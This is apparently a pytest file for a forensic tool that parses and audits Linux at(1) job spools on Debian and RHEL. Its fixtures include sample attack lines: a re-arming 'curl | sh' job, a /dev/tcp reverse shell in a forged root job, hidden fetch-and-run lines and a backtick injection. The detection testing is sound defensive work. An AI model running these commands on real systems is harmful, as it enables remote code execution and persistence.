"""at jobs in the Debian and RHEL spools, with atd's acceptance rules (reference/linux.md §b
items 17–20, §e item 9; reference/reliability.md C20).

Job files are written here byte for byte as at 3.2 writes them: the header atd reads, the umask,
the submitter's environment quoted by at(1) (a backslash before every byte that is not a letter,
a digit or one of `%/{[]=}@+#,.:-_`; in the `cd` directory everything but letters, digits and
`/`), the `cd` block, and the commands in a here-document.
"""

from __future__ import annotations

import hashlib
import os
import random
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from schedwarden.collectors.linux.at_syntax import (
    parse_header,
    parse_job_file,
    parse_job_name,
)
from schedwarden.model import AuditReport, ExecAction, Mechanism, ScheduledJob
from schedwarden.outputs.serialize import plain
from tests.conftest import RHEL_OS_RELEASE, MakeRoot, run_collect

MTIME = 1_795_000_000  # 2026-11-18T11:06:40Z, when the jobs were submitted
SEQ_MTIME = 1_795_000_060
DEBIAN_SPOOL = "var/spool/cron/atjobs"
RHEL_SPOOL = "var/spool/at"

# linux.md §e item 9: a self re-arming payload submitted over SSH from 203.0.113.9.
DEBIAN_JOB = (
    "#!/bin/sh\n"
    "# atrun uid=1000 gid=1000\n"
    "# mail alice 0\n"
    "umask 22\n"
    "SHELL=/bin/bash; export SHELL\n"
    "SSH_CLIENT=203.0.113.9\\ 51514\\ 22; export SSH_CLIENT\n"
    "SSH_TTY=/dev/pts/0; export SSH_TTY\n"
    "USER=alice; export USER\n"
    "PATH=/usr/local/bin:/usr/bin:/bin; export PATH\n"
    "PWD=/home/alice/.cache/.x; export PWD\n"
    "LANG=C.UTF-8; export LANG\n"
    "HOME=/home/alice; export HOME\n"
    "LOGNAME=alice; export LOGNAME\n"
    "SSH_CONNECTION=203.0.113.9\\ 51514\\ 10.0.0.5\\ 22; export SSH_CONNECTION\n"
    "LESSOPEN=\\|\\ /usr/bin/lesspipe\\ %s; export LESSOPEN\n"
    "OLDPWD=/home/alice; export OLDPWD\n"
    "cd /home/alice/\\.cache/\\.x || {\n"
    "\t echo 'Execution directory inaccessible' >&2\n"
    "\t exit 1\n"
    "}\n"
    "${SHELL:-/bin/sh} << 'marcinDELIMITER3a91c7e2'\n"
    "curl -fsS http://203.0.113.9/p | sh\n"
    "echo 'curl -fsS http://203.0.113.9/p | sh' | at now + 1 hour\n"
    "\n"
    "marcinDELIMITER3a91c7e2\n"
)

# Submitted by root through sudo, on RHEL.
RHEL_JOB = (
    "#!/bin/sh\n"
    "# atrun uid=0 gid=0\n"
    "# mail root 1\n"
    "umask 22\n"
    "SHELL=/bin/bash; export SHELL\n"
    "SUDO_USER=alice; export SUDO_USER\n"
    "SUDO_UID=1000; export SUDO_UID\n"
    "PATH=/sbin:/bin:/usr/sbin:/usr/bin; export PATH\n"
    "PWD=/root; export PWD\n"
    "cd /root || {\n"
    "\t echo 'Execution directory inaccessible' >&2\n"
    "\t exit 1\n"
    "}\n"
    "${SHELL:-/bin/sh} << 'marcinDELIMITER0b5e7d21'\n"
    "/usr/local/sbin/rotate-keys --all\n"
    "\n"
    "marcinDELIMITER0b5e7d21\n"
)


def _job_bytes(uid: int, gid: int, mail: str, commands: str, cwd: str = "/root") -> str:
    """A minimal job as at(1) writes it (no environment), for the rule cases."""
    return (
        f"#!/bin/sh\n# atrun uid={uid} gid={gid}\n# mail {mail} 0\numask 22\n"
        f"cd {cwd} || {{\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}}\n"
        f"${{SHELL:-/bin/sh}} << 'marcinDELIMITER1c2d3e4f'\n{commands}\n\nmarcinDELIMITER1c2d3e4f\n"
    )


def _exec(**fields: Any) -> dict[str, Any]:
    """An exec action as plain() writes it: the model's defaults, then the given fields."""
    record: dict[str, Any] = plain(ExecAction(command_line=""))
    record.update(fields)
    return record


def _at_jobs(report: AuditReport) -> list[ScheduledJob]:
    return [j for j in report.jobs if j.mechanism is Mechanism.AT]


def _own(path: Path, uid: int, gid: int, mtime: int = MTIME) -> None:
    os.chown(path, uid, gid)
    os.utime(path, (mtime, mtime))


def _sha(text: str | bytes) -> str:
    return hashlib.sha256(text.encode() if isinstance(text, str) else text).hexdigest()


def test_debian_self_rearming_job_over_ssh(make_root: MakeRoot) -> None:
    name = "a0000a01c2d3e4"
    root = make_root(
        {
            f"{DEBIAN_SPOOL}/{name}": (DEBIAN_JOB, 0o700),
            f"{DEBIAN_SPOOL}/.SEQ": ("0000a\n", 0o600),
            "etc/at.deny": "daemon\nbin\nwww-data\n",
        }
    )
    _own(root / DEBIAN_SPOOL / name, 1000, 1000)
    _own(root / DEBIAN_SPOOL / ".SEQ", 1, 1, SEQ_MTIME)
    report = run_collect(root)

    assert report.issues == ()
    jobs = _at_jobs(report)
    assert len(jobs) == 1
    [job] = jobs
    payload = (
        "curl -fsS http://203.0.113.9/p | sh\n"
        "echo 'curl -fsS http://203.0.113.9/p | sh' | at now + 1 hour"
    )
    path = f"/{DEBIAN_SPOOL}/{name}"
    assert plain(job) == {
        "job_id": job.job_id,
        "mechanism": "at",
        "technique": "T1053.002",
        "name": path,
        "run_as": "alice",
        "schedule": {
            "kind": "one_shot",
            "at": "2026-03-05T16:04:00Z",
            "description": "Once, at 2026-03-05 16:04 UTC (queue a); overdue, so atd runs it "
            "as soon as it next scans the spool",
        },
        "actions": [
            _exec(
                command_line=payload,
                executable="curl",
                arguments=["-fsS", "http://203.0.113.9/p", "|", "sh"],
                working_dir="/home/alice/.cache/.x",
                shell="/bin/bash",
            )
        ],
        "effective": {
            "runs": True,
            "reason": "queued and overdue: atd runs it as soon as it next scans the spool",
            "daemon": "atd",
        },
        "evidence": {
            "source_kind": "image",
            "host": "testhost",
            "path": path,
            "related": [],
            "line": 22,
            "offset": DEBIAN_JOB.index("curl -fsS"),
            "sha256": _sha(DEBIAN_JOB),
            "owner": "alice",
            "group": "alice",
            "uid": 1000,
            "gid": 1000,
            "mode": "0700",
            "mtime": "2026-11-18T11:06:40Z",
        },
        "environment": {
            "SHELL": "/bin/bash",
            "SSH_CLIENT": "203.0.113.9 51514 22",
            "SSH_TTY": "/dev/pts/0",
            "USER": "alice",
            "PATH": "/usr/local/bin:/usr/bin:/bin",
            "PWD": "/home/alice/.cache/.x",
            "LANG": "C.UTF-8",
            "HOME": "/home/alice",
            "LOGNAME": "alice",
            "SSH_CONNECTION": "203.0.113.9 51514 10.0.0.5 22",
            "LESSOPEN": "| /usr/bin/lesspipe %s",
            "OLDPWD": "/home/alice",
        },
        "enabled": True,
        "hidden": False,
        "raw": DEBIAN_JOB,
        "next_runs": ["2026-11-28T12:00:00Z"],  # overdue: atd runs it at once
        "extra": {
            "queue": "a",
            "job_number": 10,
            "batch": False,
            "atrun_uid": 1000,
            "atrun_gid": 1000,
            "mail_user": "alice",
            "mail_when": "if the job writes output",
            "umask": "22",
            "ssh_source_ip": "203.0.113.9",
            "ssh_source_port": 51514,
            "ssh_destination_ip": "10.0.0.5",
            "ssh_destination_port": 22,
            "submit_pwd": "/home/alice/.cache/.x",
            "submit_oldpwd": "/home/alice",
            "last_job_number": 10,
            "last_submission": "2026-11-18T11:07:40Z",
            "at_access": "allowed (not in /etc/at.deny)",
        },
    }
    # Same file, same place: the same id on every run.
    assert [j.job_id for j in _at_jobs(run_collect(root))] == [job.job_id]


def test_rhel_spool_and_a_forged_job_atd_will_reject(make_root: MakeRoot) -> None:
    legit, forged = "a0000b01c2d3f0", "a0000c01c2d3f0"
    forged_bytes = _job_bytes(0, 0, "root", "/bin/bash -i >& /dev/tcp/203.0.113.9/443 0>&1")
    root = make_root(
        {
            f"{RHEL_SPOOL}/{legit}": (RHEL_JOB, 0o700),
            f"{RHEL_SPOOL}/{forged}": (forged_bytes, 0o700),
            f"{RHEL_SPOOL}/.SEQ": ("0000b\n", 0o600),
            f"{RHEL_SPOOL}/spool/{legit}": ("Subject: Output from your job 11\n", 0o600),
            "etc/at.allow": "alice\n",
        },
        os_release=RHEL_OS_RELEASE,
    )
    _own(root / RHEL_SPOOL / legit, 0, 0)
    _own(root / RHEL_SPOOL / forged, 1000, 1000)  # root wrote uid=0 but left alice the owner
    _own(root / RHEL_SPOOL / ".SEQ", 0, 0, SEQ_MTIME)
    report = run_collect(root)

    assert report.issues == ()
    jobs = {j.name.rsplit("/", 1)[-1]: j for j in _at_jobs(report)}
    assert sorted(jobs) == [legit, forged]
    ok = jobs[legit]
    assert ok.effective.runs is True
    assert ok.run_as == "root"
    assert ok.schedule.description.startswith("Once, at 2026-03-05 16:16 UTC (queue a)")
    assert ok.evidence.related == (f"/{RHEL_SPOOL}/spool/{legit}",)
    assert ok.extra["sudo_user"] == "alice"
    assert ok.extra["mail_when"] == "always"
    assert ok.extra["at_access"] == "allowed (root may always use at(1))"
    assert ok.actions[0].working_dir == "/root"  # type: ignore[union-attr]

    job = jobs[forged]
    path = f"/{RHEL_SPOOL}/{forged}"
    assert plain(job) == {
        "job_id": job.job_id,
        "mechanism": "at",
        "technique": "T1053.002",
        "name": path,
        "run_as": "root",
        "schedule": {
            "kind": "one_shot",
            "at": "2026-03-05T16:16:00Z",
            "description": "Once, at 2026-03-05 16:16 UTC (queue a); overdue, so atd runs it "
            "as soon as it next scans the spool",
        },
        "actions": [
            _exec(
                command_line="/bin/bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
                executable="/bin/bash",
                arguments=["-i", ">&", "/dev/tcp/203.0.113.9/443", "0>&1"],
                working_dir="/root",
                shell="/bin/sh",
            )
        ],
        "effective": {
            "runs": False,
            "reason": "atd will reject it: Job 12 (a0000c01c2d3f0) - userid 0 does not match "
            "file uid 1000",
            "daemon": "atd",
        },
        "evidence": {
            "source_kind": "image",
            "host": "testhost",
            "path": path,
            "related": [],
            "line": 10,
            "offset": forged_bytes.index("/bin/bash -i"),
            "sha256": _sha(forged_bytes),
            "owner": "alice",
            "group": "alice",
            "uid": 1000,
            "gid": 1000,
            "mode": "0700",
            "mtime": "2026-11-18T11:06:40Z",
        },
        "environment": {},
        "enabled": True,
        "hidden": False,
        "raw": forged_bytes,
        "next_runs": ["2026-11-28T12:00:00Z"],
        "extra": {
            "queue": "a",
            "job_number": 12,
            "batch": False,
            "atrun_uid": 0,
            "atrun_gid": 0,
            "mail_user": "root",
            "mail_when": "if the job writes output",
            "umask": "22",
            "last_job_number": 11,
            "last_submission": "2026-11-18T11:07:40Z",
            "spool_outputs": [f"/{RHEL_SPOOL}/spool/{legit}"],
            "job_number_beyond_seq": True,
            "at_access": "allowed (root may always use at(1))",
        },
    }


def test_c20_valid_job_random_bytes_and_non_hex_name(make_root: MakeRoot) -> None:
    valid, noise, bad = "a0001501c8c534", "a0001601c8c534", "a0001a019d0b3g"
    job_bytes = _job_bytes(0, 0, "root", "/usr/sbin/logrotate /etc/logrotate.conf", "/")
    random_bytes = random.Random(20).randbytes(4096)
    root = make_root(
        {
            f"{DEBIAN_SPOOL}/{valid}": (job_bytes, 0o700),
            f"{DEBIAN_SPOOL}/{noise}": (random_bytes, 0o700),
            f"{DEBIAN_SPOOL}/{bad}": (job_bytes, 0o700),
        }
    )
    for name in (valid, noise, bad):
        _own(root / DEBIAN_SPOOL / name, 0, 0)
    report = run_collect(root)

    assert [(i.code, i.evidence.path) for i in report.issues] == [
        ("UNPARSEABLE_AT_JOB", f"/{DEBIAN_SPOOL}/{noise}"),
        ("BAD_AT_JOB_NAME", f"/{DEBIAN_SPOOL}/{bad}"),
    ]
    assert report.issues[1].message == (
        "job file name 'a0001a019d0b3g' is not <queue letter><5 hex digits of job number>"
        "<8 hex digits of minutes since the epoch> as at(1) writes it; atd reads it as queue "
        "'a', job 26, 1691827 minutes after the epoch"
    )
    jobs = {j.name.rsplit("/", 1)[-1]: j for j in _at_jobs(report)}
    assert sorted(jobs) == [valid, bad]
    # The content still parses; atd's sscanf stops at the 'g' and reads a time in 1973.
    assert jobs[bad].schedule.at.isoformat() == "1973-03-20T21:07:00+00:00"  # type: ignore[union-attr]
    assert jobs[bad].effective.runs is True

    job = jobs[valid]
    path = f"/{DEBIAN_SPOOL}/{valid}"
    assert plain(job) == {
        "job_id": job.job_id,
        "mechanism": "at",
        "technique": "T1053.002",
        "name": path,
        "run_as": "root",
        "schedule": {
            "kind": "one_shot",
            "at": "2026-12-01T03:00:00Z",
            "description": "Once, at 2026-12-01 03:00 UTC (queue a)",
        },
        "actions": [
            _exec(
                command_line="/usr/sbin/logrotate /etc/logrotate.conf",
                executable="/usr/sbin/logrotate",
                arguments=["/etc/logrotate.conf"],
                working_dir="/",
                shell="/bin/sh",
            )
        ],
        "effective": {
            "runs": True,
            "reason": "queued: atd runs it at 2026-12-01 03:00 UTC",
            "daemon": "atd",
        },
        "evidence": {
            "source_kind": "image",
            "host": "testhost",
            "path": path,
            "related": [],
            "line": 10,
            "offset": job_bytes.index("/usr/sbin/logrotate"),
            "sha256": _sha(job_bytes),
            "owner": "root",
            "group": "root",
            "uid": 0,
            "gid": 0,
            "mode": "0700",
            "mtime": "2026-11-18T11:06:40Z",
        },
        "environment": {},
        "enabled": True,
        "hidden": False,
        "raw": job_bytes,
        "next_runs": ["2026-12-01T03:00:00Z"],
        "extra": {
            "queue": "a",
            "job_number": 21,
            "batch": False,
            "atrun_uid": 0,
            "atrun_gid": 0,
            "mail_user": "root",
            "mail_when": "if the job writes output",
            "umask": "22",
            "at_access": "allowed (root may always use at(1))",
        },
    }


def test_atd_acceptance_rules(make_root: MakeRoot) -> None:
    """No exec bit, a symbolic link, three hard links, a lock link, a running job, a batch queue,
    and a job in the other distribution's spool."""
    alice = _job_bytes(1000, 1000, "alice", "/home/alice/bin/job", "/home/alice")
    root = make_root(
        {
            f"{DEBIAN_SPOOL}/a0000101c8c534": (alice, 0o600),  # no owner-exec bit
            "home/alice/.j": (alice, 0o700),  # target of the link below
            f"{DEBIAN_SPOOL}/a0000301c8c534": (alice, 0o700),  # hard-linked twice
            f"{DEBIAN_SPOOL}/a0000401c8c534": (alice, 0o700),  # being started: = lock
            f"{DEBIAN_SPOOL}/=0000501c2d3e4": (alice, 0o700),  # running: only the lock
            f"{DEBIAN_SPOOL}/b0000601c8c534": (alice, 0o700),  # batch queue
            f"{RHEL_SPOOL}/a0000701c8c534": (alice, 0o700),  # not this host's spool
            "var/spool/cron/atspool/a0000501c2d3e4": ("Subject: Output from your job 5\n", 0o600),
        }
    )
    spool = root / DEBIAN_SPOOL
    os.symlink("/home/alice/.j", spool / "a0000201c8c534")
    os.link(spool / "a0000301c8c534", root / "home/alice/.h1")
    os.link(spool / "a0000301c8c534", root / "home/alice/.h2")
    os.link(spool / "a0000401c8c534", spool / "=0000401c8c534")
    for entry in [*spool.iterdir(), *(root / RHEL_SPOOL).iterdir(), root / "home/alice/.j"]:
        if not entry.is_symlink():
            _own(entry, 1000, 1000)
    report = run_collect(root)

    assert report.issues == ()
    jobs = {j.name.rsplit("/", 1)[-1]: j for j in _at_jobs(report)}
    assert len(jobs) == 7
    verdicts = {name: (j.effective.runs, j.effective.reason) for name, j in jobs.items()}
    assert verdicts == {
        "a0000101c8c534": (
            False,
            "atd skips it: mode 0600 has no owner-exec bit (at(1) sets it once the job is written)",
        ),
        "a0000201c8c534": (
            False,
            "atd will reject it: Symbolic link encountered in job 2 (a0000201c8c534) - aborting",
        ),
        "a0000301c8c534": (
            False,
            "atd will reject it: Somebody is trying to run a linked script for job 3 "
            "(a0000301c8c534) (3 hard links; atd allows its own lock link only)",
        ),
        "a0000401c8c534": (True, "being started by atd now (its lock link =0000401c8c534 exists)"),
        "=0000501c2d3e4": (
            False,
            "running when the evidence was taken: only atd's lock link is left (atd unlinks the "
            "job file when it starts the job) and atd never starts a lock link",
        ),
        "b0000601c8c534": (
            True,
            "queued in a batch queue: atd runs it once its time has come and the load average "
            "is below atd's limit, one batch job at a time",
        ),
        "a0000701c8c534": (
            False,
            "the atd of this debian host reads /var/spool/cron/atjobs, not /var/spool/at",
        ),
    }
    assert jobs["b0000601c8c534"].schedule.description == (
        "Once, at 2026-12-01 03:00 UTC (batch queue b), or later when the load average permits"
    )
    assert jobs["a0000401c8c534"].extra["lock_link"] == f"/{DEBIAN_SPOOL}/=0000401c8c534"

    running = jobs["=0000501c2d3e4"]
    path = f"/{DEBIAN_SPOOL}/=0000501c2d3e4"
    output = "/var/spool/cron/atspool/a0000501c2d3e4"
    assert plain(running) == {
        "job_id": running.job_id,
        "mechanism": "at",
        "technique": "T1053.002",
        "name": path,
        "run_as": "alice",
        "schedule": {
            "kind": "one_shot",
            "at": "2026-03-05T16:04:00Z",
            "description": "Once, at 2026-03-05 16:04 UTC; running (only atd's lock link is left)",
        },
        "actions": [
            _exec(
                command_line="/home/alice/bin/job",
                executable="/home/alice/bin/job",
                arguments=[],
                working_dir="/home/alice",
                shell="/bin/sh",
            )
        ],
        "effective": {
            "runs": False,
            "reason": verdicts["=0000501c2d3e4"][1],
            "daemon": "atd",
        },
        "evidence": {
            "source_kind": "image",
            "host": "testhost",
            "path": path,
            "related": [output],
            "line": 10,
            "offset": alice.index("/home/alice/bin/job"),
            "sha256": _sha(alice),
            "owner": "alice",
            "group": "alice",
            "uid": 1000,
            "gid": 1000,
            "mode": "0700",
            "mtime": "2026-11-18T11:06:40Z",
        },
        "environment": {},
        "enabled": True,
        "hidden": False,
        "raw": alice,
        "next_runs": ["2026-11-28T12:00:00Z"],
        "extra": {
            "queue": "=",
            "job_number": 5,
            "atrun_uid": 1000,
            "atrun_gid": 1000,
            "mail_user": "alice",
            "mail_when": "if the job writes output",
            "umask": "22",
            "spool_outputs": [output],
            "at_access": "denied (neither /etc/at.allow nor /etc/at.deny exists: only root may)",
            "running": True,
        },
    }
    link = jobs["a0000201c8c534"]
    assert link.evidence.related == ("/home/alice/.j",)


def test_lines_at_never_writes_run_too(make_root: MakeRoot) -> None:
    """A forged file that hides commands outside the here-document, in the environment block
    and after the closing delimiter: /bin/sh runs them all."""
    text = _job_bytes(0, 0, "root", "/usr/bin/true").replace(
        "umask 22\n", "umask 22\nX=$(curl -s 203.0.113.9/a|sh); export X\nHOME=/root; export HOME\n"
    )
    text += "curl -s 203.0.113.9/b | sh\n"
    root = make_root({f"{DEBIAN_SPOOL}/a0000901c8c534": (text, 0o700)})
    _own(root / DEBIAN_SPOOL / "a0000901c8c534", 0, 0)
    report = run_collect(root)

    assert report.issues == ()
    [job] = _at_jobs(report)
    assert job.hidden is True
    assert job.environment == (("HOME", "/root"),)
    assert [a.command_line for a in job.actions] == [  # type: ignore[union-attr]
        "X=$(curl -s 203.0.113.9/a|sh); export X",
        "/usr/bin/true",
        "curl -s 203.0.113.9/b | sh",
    ]
    assert job.extra["unexpected_lines"] == [
        {"line": 5, "text": "X=$(curl -s 203.0.113.9/a|sh); export X"},
        {"line": 15, "text": "curl -s 203.0.113.9/b | sh"},
    ]
    assert job.effective.runs is True


# ---------------------------------------------------------------------------------------------
# The parser on its own


def test_unquoting_the_forms_at_writes() -> None:
    data = (
        b"#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\n"
        b'MOTD=first"\n"second; export MOTD\n'
        b'NAME=Ren\\\xc3\\\xa9e\\ \\"R\\"; export NAME\n'
        b"EMPTY=; export EMPTY\n"
        b"LS_COLORS=rs=0:di=01\\;34:\\*.tar=01\\;31:; export LS_COLORS\n"
        b"cd /srv/a\\ b\"\n\"c || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
        b"${SHELL:-/bin/sh} << 'marcinDELIMITER00c0ffee'\necho hi\nmarcinDELIMITER00c0ffee\n"
    )
    parsed = parse_job_file(data)
    assert parsed.environment == (
        ("MOTD", "first\nsecond"),
        ("NAME", 'Renée "R"'),
        ("EMPTY", ""),
        ("LS_COLORS", "rs=0:di=01;34:*.tar=01;31:"),
    )
    assert parsed.working_dir == "/srv/a b\nc"
    assert parsed.payload == "echo hi"
    assert parsed.stray == ()
    # Unquoted `$`, `` ` `` or blanks are not at(1)'s: the line is reported, never expanded.
    hostile = parse_job_file(data.replace(b"EMPTY=;", b"EMPTY=`id`;"))
    assert [s.text for s in hostile.stray] == ["EMPTY=`id`; export EMPTY"]


def test_header_as_atd_scans_it() -> None:
    assert parse_header(b"#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\n") is not None
    # A blank in a scanf format matches any white space, none included.
    squeezed = parse_header(b"#!/bin/sh #atrun uid= 5 gid=5\n#mail bob -1")
    assert squeezed is not None
    assert (squeezed.uid, squeezed.mail_user, squeezed.mail_mode) == (5, "bob", -1)
    assert parse_header(b"#!/bin/bash\n# atrun uid=0 gid=0\n# mail root 0\n") is None
    assert parse_header(b"#!/bin/sh\n# atrun uid=0 gid=0\n# mail root0\n") is None


def test_names_as_atd_scans_them() -> None:
    name = parse_job_name("a0000a01c2d3e4")
    assert name is not None
    assert (name.queue, name.job_number, name.minutes, name.exact) == ("a", 10, 0x01C2D3E4, True)
    assert parse_job_name(".SEQ") is None
    assert parse_job_name("spool") is None
    short = parse_job_name("a0001a019d0b3g")
    assert short is not None
    assert (short.minutes, short.exact) == (0x019D0B3, False)


@given(st.binary(max_size=4096), st.text(max_size=20))
def test_parser_takes_any_bytes(data: bytes, name: str) -> None:
    header = b"#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\n"
    for candidate in (data, header + data, header + b"A=" + data):
        parsed = parse_job_file(candidate)
        assert len(parsed.stray) <= parsed.stray_count
    parse_job_name(name)


def test_at_31_job_without_here_document() -> None:
    data = (
        b"#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nHOME=/root; export HOME\n"
        b"cd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
        b"tar czf /tmp/x.tgz /etc\nrm -f /tmp/y\n"
    )
    parsed = parse_job_file(data)
    assert parsed.here_document is False
    assert parsed.payload == "tar czf /tmp/x.tgz /etc\nrm -f /tmp/y"
    assert parsed.payload_line == 10
    assert parsed.stray == ()


def test_link_out_of_the_root_and_fifo_are_issues(make_root: MakeRoot, tmp_path: Path) -> None:
    outside = tmp_path / "outside-job"
    outside.write_text(_job_bytes(0, 0, "root", "id"))
    root = make_root({f"{DEBIAN_SPOOL}/.SEQ": "00001\n"})
    os.symlink("../../../../../../../" + str(outside), root / DEBIAN_SPOOL / "a0000101c8c534")
    os.mkfifo(root / DEBIAN_SPOOL / "a0000201c8c534")
    report = run_collect(root)
    assert _at_jobs(report) == []
    assert sorted(i.code for i in report.issues) == ["DANGLING_SYMLINK", "NOT_REGULAR_FILE"]


def test_submission_time_is_seq_mtime(make_root: MakeRoot) -> None:
    root = make_root(
        {
            f"{DEBIAN_SPOOL}/a0000101c8c534": (_job_bytes(0, 0, "root", "id"), 0o700),
            f"{DEBIAN_SPOOL}/.SEQ": "00001\n",
        }
    )
    os.utime(root / DEBIAN_SPOOL / ".SEQ", (SEQ_MTIME, SEQ_MTIME))
    [job] = _at_jobs(run_collect(root))
    assert job.extra["last_submission"] == datetime.fromtimestamp(SEQ_MTIME, UTC)
    assert job.extra["last_job_number"] == 1
